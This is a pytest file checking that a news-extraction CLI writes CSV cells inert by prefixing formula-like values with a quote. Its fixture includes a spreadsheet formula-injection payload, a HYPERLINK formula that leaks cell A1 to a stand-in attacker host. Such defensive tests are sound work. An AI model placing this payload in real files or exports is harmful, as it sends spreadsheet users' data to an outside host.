"""CSV cells a spreadsheet would run as formulas are written inert (a leading "'"), by every CSV writer."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from typer.testing import CliRunner

from extractor.cli import app
from extractor.store.cells import safe_cell

runner = CliRunner()
HOSTILE = {
    "id": "@SUM(1+1)",
    "title": '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
    "url": "-2+3",
    "published": "2024-09-16T08:00:00Z",
    "text": "Gunmen killed five villagers in Maiduguri, Nigeria, on Monday, police said.\n\n\tMore follows.",
}


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@x", "\tx", "\rx"])
def test_text_a_spreadsheet_would_evaluate_is_prefixed(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Kabul", "", "'quoted", 3, -3.5, None, True])
def test_other_cells_are_unchanged(value):
    assert safe_cell(value) == value  # numbers stay numbers: a negative longitude is not text


def _hostile_input() -> Path:
    path = Path("hostile.jsonl")
    path.write_text(json.dumps(HOSTILE) + "\n", encoding="utf-8")
    return path


def _assert_inert(rows: list[dict[str, str]], id_column: str, title_column: str) -> None:
    assert rows, "the hostile article gave no row"
    for row in rows:
        assert row[id_column] == "'" + HOSTILE["id"]
        assert row[title_column] == "'" + HOSTILE["title"]
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values() if cell)


def test_run_format_csv_neutralises_formula_cells():
    result = runner.invoke(app, ["run", str(_hostile_input()), "--format", "csv", "-o", "out.csv", "-q"])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(Path("out.csv").open(encoding="utf-8", newline="")))
    _assert_inert(rows, "article_id", "title")
    assert rows[0]["link"] == "'-2+3"


def test_export_format_csv_neutralises_formula_cells():
    assert runner.invoke(app, ["run", str(_hostile_input()), "--db", "h.db", "-q"]).exit_code == 0
    for what in ("incidents", "events"):
        result = runner.invoke(app, ["export", "--db", "h.db", "--what", what, "--format", "csv", "-o", f"{what}.csv"])
        assert result.exit_code == 0, result.output
        rows = list(csv.DictReader(Path(f"{what}.csv").open(encoding="utf-8", newline="")))
        assert rows, what
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values() if cell)
    incidents = list(csv.DictReader(Path("incidents.csv").open(encoding="utf-8", newline="")))
    assert incidents[0]["article_id"] == "'" + HOSTILE["id"]
